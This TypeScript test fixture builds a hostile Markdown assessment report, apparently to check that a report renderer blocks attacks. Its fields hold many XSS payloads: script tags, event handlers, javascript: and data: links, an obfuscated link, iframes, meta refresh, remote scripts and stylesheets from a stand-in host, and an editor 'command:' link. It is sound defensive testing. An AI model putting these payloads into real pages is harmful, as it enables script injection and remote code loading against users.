/** The report below reaches for these: a script of its own would set the first, and anything fetched is from the second. */
export const reached = 'reachedByTheReport';
export const outside = 'outside.example';

const act = `globalThis.${reached}=true;alert(1);fetch('https://${outside}/fetched')`;
const picture = (name: string) => `https://${outside}/${name}.png`;
const quotes = 300;

/** Whatever a report could try against the one who reads it, in each place where an author can write. */
export const hostileReport = `---
framework: cqc-single-assessment
scope: caring
provider: '<img src="${picture('provider')}" onerror="${act}">'
service: '</dd><script>${act}</script>'
previous: 'javascript:${act}'
---

# Caring

Rating: <img src=x onerror="${act}">
Score: "><svg onload="${act}">

<script>${act}</script>

<script src="https://${outside}/script.js"></script>

<img src="x" onerror="${act}">

<svg onload="${act}"><animate onbegin="${act}" attributeName="x" dur="1s"></animate></svg>

<iframe srcdoc="<script>${act}</script>" src="https://${outside}/frame"></iframe>

<object data="https://${outside}/object"></object><embed src="https://${outside}/embed">

<meta http-equiv="refresh" content="0; url=https://${outside}/refreshed">

<base href="https://${outside}/base/">

<link rel="stylesheet" href="https://${outside}/sheet.css">

<style>@import url("https://${outside}/import.css"); body { background: url("${picture('style')}") }</style>

<p style="background: url('${picture('inline')}')">A styled line.</p>

<form action="https://${outside}/form"><input autofocus onfocus="${act}" name="q"><button formaction="javascript:${act}">Send</button></form>

<details open ontoggle="${act}"><summary onclick="${act}">Open me</summary>Opened.</details>

<video autoplay src="https://${outside}/video" onerror="${act}"></video>

<a href="javascript:${act}" onclick="${act}">A link of HTML</a>

[A link of Markdown](javascript:${act})

[A link with a disguise](java&#10;script:${act})

[A link to data](data:text/html,<script>${act}</script>)

[A link to a command](command:workbench.action.closeAllEditors)

![A picture](${picture('markdown')} "onerror=${act}")

![Another picture](javascript:${act})

<p data-line="7777" data-statement="forged" data-service="0" class="to-source" id="report" tabindex="0">A forged line.</p>

## Kindness, compassion and <img src=x onerror="${act}">dignity

Score: 3

${'>'.repeat(quotes)} Deep down.

${Array.from({ length: 100 }, (_, depth) => `${'  '.repeat(depth)}- level`).join('\n')}

## Treating people as individuals

Score: 3

The end of the report.
`;

/** A click on the link would close the report. */
export const commandReport = `---
framework: cqc-single-assessment
status: draft
scope: caring
---

# Caring

[The guidance](command:workbench.action.closeAllEditors) says more.

[The page](https://example.org/guidance) too.
`;
